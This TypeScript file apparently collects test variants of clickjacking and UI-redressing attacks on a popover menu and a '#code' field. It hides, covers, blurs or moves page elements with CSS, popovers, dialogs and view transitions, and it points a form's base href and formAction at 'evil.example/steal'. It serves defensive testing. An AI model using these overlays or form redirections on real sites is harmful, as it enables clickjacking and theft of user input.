import { covers, never, type Attack } from './attacks.ts'

/** Variants of the attacks. */
export const MORE_ATTACKS: readonly Attack[] = [
  covers('animates the host away', () => {
    const host = document.querySelector('[popover=manual]')
    host?.animate([{ opacity: 0 }, { opacity: 0 }], { duration: 1e6, fill: 'both' })
  }),
  covers('hides the popover', () => {
    document.querySelector<HTMLElement>('[popover=manual]')?.hidePopover()
  }),
  covers('fades the root', () => {
    document.documentElement.style.opacity = '0.01'
  }),
  covers('blurs the root', () => {
    document.documentElement.style.filter = 'blur(12px)'
  }),
  covers('masks the root', () => {
    document.documentElement.style.mask = 'linear-gradient(transparent, transparent)'
  }),
  covers('scales the root', () => {
    document.documentElement.style.transform = 'scale(5)'
  }),
  covers('zooms the root', () => {
    document.documentElement.style.zoom = '0.2'
  }),
  covers('fades the body', () => {
    document.body.style.opacity = '0'
  }),
  covers('lays a popover over all of it', () => {
    const cover = document.createElement('div')
    cover.popover = 'manual'
    cover.style.cssText =
      'position:fixed;inset:0;width:100vw;height:100vh;margin:0;border:0;background:white;pointer-events:none'
    document.body.append(cover)
    cover.showPopover()
  }),
  covers('lays a popover over the name of the site', () => {
    const host = document.querySelector('[popover=manual]')?.getBoundingClientRect()
    const cover = document.createElement('div')
    cover.popover = 'manual'
    cover.style.cssText = `position:fixed;inset:auto;left:${host?.left ?? 0}px;top:${host?.top ?? 0}px;width:336px;height:48px;margin:0;border:0;background:white;pointer-events:none`
    document.body.append(cover)
    cover.showPopover()
  }),
  covers('paints a backdrop', () => {
    const style = document.createElement('style')
    style.textContent = '#veil::backdrop { background: white; pointer-events: none }'
    const cover = document.createElement('div')
    cover.id = 'veil'
    cover.popover = 'manual'
    cover.style.cssText = 'inset:auto;width:0;height:0;border:0;padding:0;pointer-events:none'
    document.body.append(style, cover)
    cover.showPopover()
  }),
  covers('lets a child of one pixel overflow', () => {
    const cover = document.createElement('div')
    cover.popover = 'manual'
    cover.style.cssText =
      'inset:auto;left:0;top:0;width:1px;height:1px;border:0;padding:0;overflow:visible;pointer-events:none'
    const child = document.createElement('div')
    child.style.cssText = 'width:2000px;height:2000px;background:white'
    cover.append(child)
    document.body.append(cover)
    cover.showPopover()
  }),
  covers('opens a modal dialog that takes no clicks', () => {
    const dialog = document.createElement('dialog')
    dialog.style.cssText =
      'position:fixed;inset:0;width:100vw;height:100vh;max-width:none;max-height:none;background:white;pointer-events:none'
    document.body.append(dialog)
    dialog.showModal()
  }),
  never('moves the host into a veiled box', () => {
    const box = document.createElement('div')
    box.style.cssText = 'opacity:0;transform:translateX(5px)'
    document.body.append(box)
    const host = document.querySelector('[popover=manual]')
    if (host) box.append(host)
  }),
  never('keeps the menu moving under the pointer', () => {
    let by = 0
    setInterval(() => {
      scrollTo(0, (by = by === 0 ? 30 : 0))
    }, 40)
  }),
  never('points the addresses of the page at somebody else', () => {
    document.querySelector('form')?.setAttribute('action', '/verify')
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)
  }),
  never('adds a button that sends the form to somebody else', () => {
    const button = document.createElement('button')
    button.formAction = 'https://evil.example/steal'
    document.querySelector('form')?.append(button)
  }),
  never('cuts the field away', () => {
    const field = document.querySelector<HTMLElement>('#code')
    if (field) field.style.clipPath = 'inset(100%)'
  }),
  never('masks what is around the field', () => {
    const form = document.querySelector('form')
    if (form) form.style.maskImage = 'linear-gradient(transparent, transparent)'
  }),
  never('lays a box over the field', () => {
    const field = document.querySelector('#code')?.getBoundingClientRect()
    const box = document.createElement('div')
    box.style.cssText = `position:fixed;left:0;top:${field?.top ?? 0}px;width:800px;height:44px;background:white;z-index:9`
    document.body.append(box)
  }),
  never('puts the field where nobody looks', () => {
    const field = document.querySelector<HTMLElement>('#code')
    if (field) field.style.cssText = 'position:absolute;left:-9999px'
  }),
  never('gives the field to another form', () => {
    const form = document.createElement('form')
    form.id = 'other'
    document.body.append(form)
    document.querySelector('#code')?.setAttribute('form', 'other')
  }),
  never('makes the field read-only', () => {
    document.querySelector('#code')?.setAttribute('readonly', '')
  }),
  covers(
    'paints pseudo-elements of the host where no sheet of ours may stand',
    () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(
        '[popover]::before, [popover]::after { content: "" !important; display: block !important; position: fixed !important; inset: 0 !important; background: white !important; z-index: 2147483647 !important; pointer-events: none !important }',
      )
      document.adoptedStyleSheets.push(sheet)
    },
    { page: '/strict' },
  ),
  covers(
    'fades the host where no sheet of ours may stand',
    () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync('[popover] { opacity: 0 !important; filter: blur(9px) !important }')
      document.adoptedStyleSheets.push(sheet)
      const host = document.querySelector('[popover=manual]')
      host?.animate([{ opacity: 0 }, { opacity: 0 }], { duration: 1e6, fill: 'both' })
    },
    { page: '/strict' },
  ),
  covers(
    'writes over the style of the host where no sheet of ours may stand',
    () => {
      const host = document.querySelector('[popover=manual]')
      if (host instanceof HTMLElement) host.style.cssText += ';opacity:.01!important'
    },
    { page: '/strict' },
  ),
  covers('paints the backdrop of the host', () => {
    const style = document.createElement('style')
    style.textContent =
      '[popover]::backdrop { background: white !important; opacity: 1 !important; z-index: 2147483647 !important; pointer-events: none !important }'
    document.head.append(style)
  }),
  covers('hides what the root contains', () => {
    document.documentElement.style.setProperty('content-visibility', 'hidden')
  }),
  covers('hides the root', () => {
    document.documentElement.style.visibility = 'hidden'
  }),
  covers('makes the page inert', () => {
    document.documentElement.inert = true
  }),
  covers('blends the root', () => {
    document.documentElement.style.mixBlendMode = 'difference'
    document.documentElement.style.background = 'white'
  }),
  covers('turns the root in space', () => {
    document.documentElement.style.perspective = '1px'
    document.documentElement.style.transform = 'rotateX(89deg)'
  }),
  covers('animates the root', () => {
    document.documentElement.animate([{ opacity: 0 }, { opacity: 0 }], {
      duration: 1e6,
      fill: 'both',
    })
  }),
  covers('cuts the root by an old property', () => {
    const { style } = document.documentElement
    style.position = 'absolute'
    style.setProperty('clip', 'rect(0, 1px, 1px, 0)')
  }),
  covers('blurs what is behind a popover of one pixel', () => {
    const style = document.createElement('style')
    style.textContent =
      '#lens::backdrop { backdrop-filter: blur(20px); background: none; pointer-events: none }'
    const cover = document.createElement('div')
    cover.id = 'lens'
    cover.popover = 'manual'
    cover.style.cssText = 'inset:auto;width:1px;height:1px;border:0;padding:0;pointer-events:none'
    document.body.append(style, cover)
    cover.showPopover()
  }),
  covers('draws an outline of a popover of one pixel', () => {
    const cover = document.createElement('div')
    cover.popover = 'hint'
    cover.style.cssText =
      'position:fixed;inset:auto;left:0;top:0;width:1px;height:1px;padding:0;border:0;outline:2000px solid white;pointer-events:none'
    document.body.append(cover)
    cover.showPopover()
  }),
  covers('starts one view transition after the other', () => {
    const style = document.createElement('style')
    style.textContent =
      '::view-transition { background: white; pointer-events: none } ::view-transition-group(*) { animation-duration: .05s }'
    document.head.append(style)
    const page = document as {
      startViewTransition?: (change: () => void) => { finished: Promise<void> }
    }
    const again = () => void page.startViewTransition?.(() => undefined).finished.then(again)
    again()
  }),
  covers('names the host in a view transition', () => {
    const style = document.createElement('style')
    style.textContent =
      '[popover] { view-transition-name: menu } ::view-transition-new(menu), ::view-transition-old(menu) { opacity: 0; animation: none } ::view-transition { pointer-events: none } ::view-transition-group(*) { animation-duration: 60s }'
    document.head.append(style)
    const page = document as { startViewTransition?: (change: () => void) => void }
    page.startViewTransition?.(() => undefined)
  }),
  covers('draws another pointer and hides the real one', () => {
    const style = document.createElement('style')
    style.textContent = '* { cursor: none !important }'
    const pointer = document.createElement('div')
    pointer.style.cssText =
      'position:fixed;left:60px;top:180px;width:300px;height:90px;background:black;z-index:2147483647;pointer-events:none'
    document.head.append(style)
    document.documentElement.append(pointer)
  }),
  covers('sets everything of the host at once', () => {
    const style = document.createElement('style')
    style.textContent =
      'html [popover] { all: unset !important; display: none !important; content-visibility: hidden !important; zoom: .01 !important; contain: strict !important; clip: rect(0,0,0,0) !important; mask: url(#none) !important; mix-blend-mode: difference !important }'
    document.head.append(style)
  }),
  covers(
    'fades and bends the dialog around',
    () => {
      const dialog = document.querySelector('dialog')
      if (dialog) dialog.style.cssText = 'opacity:.01;filter:blur(9px);clip-path:inset(45%)'
    },
    { page: '/dialog' },
  ),
  never(
    'closes the dialog around and shows it again',
    () => {
      const dialog = document.querySelector('dialog')
      dialog?.close()
      dialog?.showModal()
    },
    { page: '/dialog' },
  ),
  covers(
    'opens another dialog over the one around',
    () => {
      const dialog = document.createElement('dialog')
      dialog.style.cssText =
        'position:fixed;inset:0;width:100vw;height:100vh;max-width:none;max-height:none;background:white;pointer-events:none'
      document.body.append(dialog)
      dialog.showModal()
    },
    { page: '/dialog' },
  ),
  covers(
    'spills a shadow on the frame around',
    () => {
      const cover = document.createElement('div')
      cover.style.cssText =
        'position:fixed;left:0;top:0;width:1px;height:1px;box-shadow:0 0 0 3000px white;z-index:2147483647'
      document.body.append(cover)
    },
    { page: '/nested' },
  ),
  covers(
    'fades the frame around',
    () => {
      const frame = document.querySelector('iframe')
      if (frame) frame.style.opacity = '.01'
    },
    { page: '/nested' },
  ),
  covers(
    'fades a box around the frame',
    () => {
      const frame = document.querySelector('iframe')
      if (frame?.parentElement) frame.parentElement.style.cssText = 'opacity:.01;filter:blur(9px)'
    },
    { page: '/nested' },
  ),
  never('moves the menu when the pointer comes', () => {
    document.addEventListener('mouseover', (event) => {
      if (!(event.target instanceof HTMLElement) || !event.target.popover) return
      const field = document.querySelector<HTMLElement>('#code')
      if (field) field.style.marginTop = '26px'
      scrollBy(0, 1)
    })
  }),
  never('snaps the page to another place when the pointer comes', () => {
    document.documentElement.style.scrollSnapType = 'y mandatory'
    document.addEventListener('mouseover', (event) => {
      if (event.target instanceof HTMLElement && event.target.popover) scrollTo(0, 26)
    })
  }),
  never(
    'waits for Enter with the focus on the host',
    () => {
      const host = document.querySelector<HTMLElement>('[popover=manual]')
      host?.setAttribute('tabindex', '0')
      host?.focus()
    },
    { click: 'enter' },
  ),
  never('leads the page elsewhere', () => {
    history.pushState(null, '', '/elsewhere')
    document.querySelector('#code')?.replaceWith(document.createElement('input'))
  }),
  never('puts the field into a frame of its own', () => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const field = document.querySelector('#code')
    if (field) frame.contentDocument?.body.append(field)
  }),
]
